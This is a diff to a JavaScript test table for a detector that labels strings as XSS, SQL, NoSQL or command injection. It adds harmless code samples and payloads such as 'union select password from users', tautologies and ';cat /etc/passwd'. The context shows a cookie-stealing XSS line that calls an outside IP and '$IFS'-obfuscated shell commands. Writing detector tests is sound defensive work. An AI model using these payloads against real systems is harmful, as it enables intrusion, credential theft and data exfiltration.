@@ -40,6 +40,8 @@ test.each([
     'a program that sets a cookie',
     `keep: (name, value) => {\n  const end = inDays(9);\n  document.cookie = name + '=' + value + end;\n},\ndrop: (name) => {\n  document.cookie = \`\${name}=;max-age=0\`;\n},`,
   ],
+  ['what a message is joined with', "throw new Error('No menu in the folder: ' + this.folder);"],
+  ['the same in other quotes', 'this.log.info("The guests sit at table number " + this.table.number);'],
   ['a script that looks for its shell', '(PATH=/bin; FPATH=$PATH; sh -c :) >/dev/null 2>&1 ||\n  SEPARATOR=none'],
 ])('%s is no attack', (_, line) => {
   expect(typesIn(line)).toEqual([]);
@@ -58,6 +60,12 @@ test.each([
   ['xss', `},\ndocument.cookie = \`\${a}\${fetch('//203.0.113.9/' + document.cookie)}\`;\n{`],
   ['xss', '},\ndocument.cookie = a + alert(1);\n{'],
   ['xss', "'-(document.cookie = a + 1)-'"],
+  ['nosql_injection', "say 'the name of the menu ' && this.password.match(/^a/)//"],
+  ['sql_injection', "say 'the name of the menu ' union select password from users--"],
+  ['sql_injection', "say 'the name of the menu ' or 'a'='a"],
+  ['sql_injection', "say \\'the name of the menu ' order by 5--"],
+  ['xss', "say 'the name of the menu '-alert(1)-'"],
+  ['command_injection', "say 'the name of the menu ';cat /etc/passwd"],
   ['command_injection', 'cat$IFS/etc/passwd'],
   ['command_injection', 'x;a=1;ls$IFS-la'],
   ['command_injection', '%x{id}'],
